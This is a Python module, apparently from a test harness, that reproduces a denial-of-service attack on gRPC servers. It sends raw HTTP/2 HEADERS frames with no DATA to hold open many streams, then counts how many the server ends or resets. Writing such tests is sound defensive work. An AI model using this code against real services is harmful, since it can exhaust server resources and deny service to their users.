"""gRPC streams that send only their HEADERS frame, from a chosen loopback address: the attack of
issue 33 §2 ("gRPC places held by HEADERS alone"), in raw HTTP/2 (no h2 package: the preface,
one SETTINGS frame, then HEADERS frames whose header block is HPACK literals without indexing).

``HeadersOnly(host, port, path, source, streams)`` opens one connection from ``source`` and that
many streams on it, none with a DATA frame; a thread reads the server's frames and counts the
streams the server ended (``ended()``: an END_STREAM flag or RST_STREAM). ``close()`` closes it."""

from __future__ import annotations

import socket
import struct
import threading

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def _hpack_literal(name: str, value: str) -> bytes:
    """A header field as an HPACK literal without indexing, new name, no Huffman (each < 127 bytes)."""
    name_bytes, value_bytes = name.encode(), value.encode()
    assert len(name_bytes) < 127 and len(value_bytes) < 127
    return b"\x00" + bytes([len(name_bytes)]) + name_bytes + bytes([len(value_bytes)]) + value_bytes


def header_block(authority: str, path: str) -> bytes:
    return b"".join(_hpack_literal(name, value) for name, value in (
        (":method", "POST"), (":scheme", "http"), (":path", path), (":authority", authority),
        ("content-type", "application/grpc"), ("te", "trailers")))


class HeadersOnly:
    def __init__(self, host: str, port: int, path: str, source: str, streams: int):
        self.sock = socket.create_connection((host, port), timeout=30, source_address=(source, 0))
        self.lock = threading.Lock()
        self.ended_streams: set[int] = set()
        self.goaway = False
        block = header_block(f"{host}:{port}", path)
        out = [PREFACE, frame(SETTINGS, 0, 0)]
        out += [frame(HEADERS, END_HEADERS, 2 * i + 1, block) for i in range(streams)]
        self.sock.sendall(b"".join(out))
        self.reader = threading.Thread(target=self._read, daemon=True)
        self.reader.start()

    def _read(self) -> None:
        buffer = b""
        try:
            while True:
                chunk = self.sock.recv(65536)
                if not chunk:
                    return
                buffer += chunk
                while len(buffer) >= 9:
                    length = int.from_bytes(buffer[:3], "big")
                    if len(buffer) < 9 + length:
                        break
                    kind, flags = buffer[3], buffer[4]
                    stream = int.from_bytes(buffer[5:9], "big") & 0x7FFFFFFF
                    payload, buffer = buffer[9:9 + length], buffer[9 + length:]
                    self._on_frame(kind, flags, stream, payload)
        except OSError:
            return

    def _on_frame(self, kind: int, flags: int, stream: int, payload: bytes) -> None:
        if kind == SETTINGS and not flags & ACK:
            self.sock.sendall(frame(SETTINGS, ACK, 0))
        elif kind == PING and not flags & ACK:
            self.sock.sendall(frame(PING, ACK, 0, payload))
        elif kind == GOAWAY:
            self.goaway = True
        elif kind == RST_STREAM or (kind in (HEADERS, DATA) and flags & END_STREAM):
            with self.lock:
                self.ended_streams.add(stream)

    def ended(self) -> int:
        with self.lock:
            return len(self.ended_streams)

    def close(self) -> None:
        try:
            self.sock.close()
        except OSError:
            pass
